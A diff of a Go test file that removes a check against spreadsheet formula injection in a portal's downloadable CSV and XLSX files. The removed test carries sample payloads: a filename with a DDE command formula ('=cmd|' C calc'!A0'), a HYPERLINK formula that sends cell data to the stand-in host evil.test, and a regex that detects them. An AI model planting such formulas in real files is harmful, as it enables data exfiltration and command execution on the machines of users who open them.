@@ -1,112 +1,12 @@
 package portal
 
 import (
-	"archive/zip"
-	"bytes"
-	"encoding/csv"
-	"io"
-	"net/http"
-	"net/url"
-	"path"
 	"regexp"
 	"strings"
 	"testing"
 
 	"huibao/act"
-	"huibao/samples"
 )
-
-var (
-	formulaText = regexp.MustCompile(`<f[ >][^<]*(?:evil\.test|cmd\|)`)
-	plainNumber = regexp.MustCompile(`^[+-]?[0-9][0-9,.]*%?$`)
-)
-
-// injected says where a workbook or a CSV holds a typed text that a spreadsheet would run.
-func injected(t *testing.T, name string, data []byte) (where []string) {
-	t.Helper()
-	switch path.Ext(name) {
-	case ".xlsx":
-		z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
-		must(t, err)
-		for _, f := range z.File {
-			r, err := f.Open()
-			must(t, err)
-			part, err := io.ReadAll(r)
-			must(t, err)
-			if formulaText.Match(part) {
-				where = append(where, f.Name)
-			}
-		}
-	case ".csv":
-		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
-		must(t, err)
-		for _, row := range rows {
-			for _, cell := range row {
-				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
-					where = append(where, cell)
-				}
-			}
-		}
-	}
-	return where
-}
-
-// TestS10Downloads: what people typed and called their files is text in every workbook and CSV
-// that the portal offers, drafts and annotated copies, however it begins.
-func TestS10Downloads(t *testing.T) {
-	h := newHouse(t)
-	clerk, officer := h.clerk(), h.overseer()
-	for _, c := range []struct {
-		name, data string
-		fires      bool
-	}{{"a.csv", "a,=1+1\n", true}, {"a.csv", "a,@x\n", true}, {"a.csv", "\"\t=1\",b\n", true}, {"a.csv", "a,-12\n+3.5%,'=1\n", false}} {
-		if got := injected(t, c.name, []byte(c.data)); (len(got) > 0) != c.fires {
-			t.Errorf("%q: %q", c.data, got)
-		}
-	}
-	const typed = `=HYPERLINK("http://evil.test/?"&A1,"点这里")`
-	takenNo(t, clerk.handIn(h.mine, upload{"=cmd|' C calc'!A0.xlsx", another(h.example(), 60)}))
-	h.judge()
-	page := "/r/" + june + "/" + h.mine
-	ids := regexp.MustCompile(`name="finding" value="([^"]+)"`).FindAllStringSubmatch(clerk.get(page).body, -1)
-	if len(ids) == 0 {
-		t.Fatal("nothing to explain")
-	}
-	for _, id := range ids {
-		if r := clerk.post(page+"/explain", "finding", id[1], "text", typed); r.status != http.StatusSeeOther {
-			t.Fatal(r.status)
-		}
-	}
-	h.judge()
-	files, annotated := 0, 0
-	look := func(b *browser, link string) {
-		r := b.get(link)
-		name, err := url.PathUnescape(path.Base(link))
-		must(t, err)
-		if strings.Contains(link, "/annotated/") {
-			name = "annotated.xlsx"
-		}
-		if r.status != http.StatusOK {
-			t.Errorf("%s: %d", link, r.status)
-			return
-		}
-		files++
-		if where := injected(t, name, []byte(r.body)); len(where) > 0 {
-			t.Errorf("%s: %q", name, where)
-		}
-	}
-	drafts := "/period/" + samples.Periods()[1].Period.String()
-	for _, link := range linked(officer.get(drafts).body, drafts+"/draft/") {
-		look(officer, link)
-	}
-	for _, link := range linked(clerk.get(page).body, page+"/annotated/") {
-		annotated++
-		look(clerk, link)
-	}
-	if files < 6 || annotated == 0 {
-		t.Errorf("%d files were looked at, %d annotated", files, annotated)
-	}
-}
 
 var (
 	closedButton = regexp.MustCompile(`<(?:button|input|select|textarea)[^>]*\sdisabled[^>]*>`)
